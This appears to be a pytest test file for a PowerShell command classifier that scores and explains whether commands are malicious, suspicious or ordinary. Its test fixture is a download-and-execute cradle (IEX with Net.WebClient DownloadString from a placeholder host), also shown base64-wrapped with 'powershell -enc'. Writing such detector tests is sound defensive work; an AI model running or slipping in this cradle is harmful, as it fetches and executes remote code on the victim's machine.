import base64

import pytest

from wheeltapper.powershell import models
from wheeltapper.powershell.explain import explain, verdict, weights

LINE = "$d = Get-Date; IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')"


@pytest.fixture(scope="module")
def model():
    return models.load("traditional")


def test_spans_are_parts_of_the_text_and_the_weightiest_comes_first(model):
    found = explain(LINE, model)
    assert found.text == LINE
    assert all(LINE[span.start : span.end] == span.text for span in found.spans)
    weights = [abs(span.weight) for span in found.spans]
    assert weights == sorted(weights, reverse=True)
    assert any("DownloadString" in span.text for span in found.spans if span.weight > 0)
    assert {"T1105", "T1059.001"} <= {t.id for t in found.techniques}


def test_of_a_wrapped_command_the_inside_is_explained(model):
    packed = base64.b64encode(LINE.encode("utf-16-le")).decode()
    found = explain(f"powershell -enc {packed}", models.load("words"))
    assert found.text == LINE
    assert [layer.how for layer in found.views.unwrapped.layers[1:]] == ["encoded command"]
    assert any(span.weight > 0 for span in found.spans)


@pytest.mark.parametrize("text", ["", " ", ";;;;", "x", "a" * 50_000, "\ud800"])
def test_any_text_is_explained(model, text):
    found = explain(text, model)
    assert found.verdict in ("malicious", "suspicious", "ordinary")


def test_verdicts_follow_the_thresholds():
    thresholds = {"1e-2": 1.0, "1e-3": 3.0}
    assert [verdict(s, thresholds) for s in (0.9, 1.0, 3.0)] == [
        "ordinary", "suspicious", "malicious",
    ]  # fmt: skip


def test_a_shell_that_is_asked_for_nothing_is_ordinary(model):
    assert verdict(99.0, {"1e-2": 1.0, "1e-3": 3.0}, "powershell.exe") == "ordinary"
    assert explain("powershell.exe", model).verdict == "ordinary"


def test_weights_are_where_the_score_is(model):
    ((text, weight),) = weights(explain(LINE, model), model, 1024)
    assert text == LINE
    assert weight.shape == (1024,)
    assert weight[: len(LINE)].max() > 0
    assert not weight[len(LINE) :].any()


def test_of_a_wrapped_command_both_texts_have_weights():
    packed = base64.b64encode(LINE.encode("utf-16-le")).decode()
    words = models.load("words")
    (outer, outside), (inner, inside) = weights(
        explain(f"powershell -enc {packed}", words), words, 1024
    )
    assert outer.endswith(packed)
    assert inner == LINE
    assert outside.any()
    assert inside[LINE.index("DownloadString")] > 0


def test_an_administrators_script_is_explained_too():
    script = "Import-Module ActiveDirectory\nGet-ADUser -Filter * | Export-Csv D:\\users.csv"
    found = explain(script, models.load())
    assert found.verdict == "ordinary"
    assert any(span.weight < 0 for span in found.spans)
    assert all(0.2 <= near.likeness <= 1 for near in found.nearest)
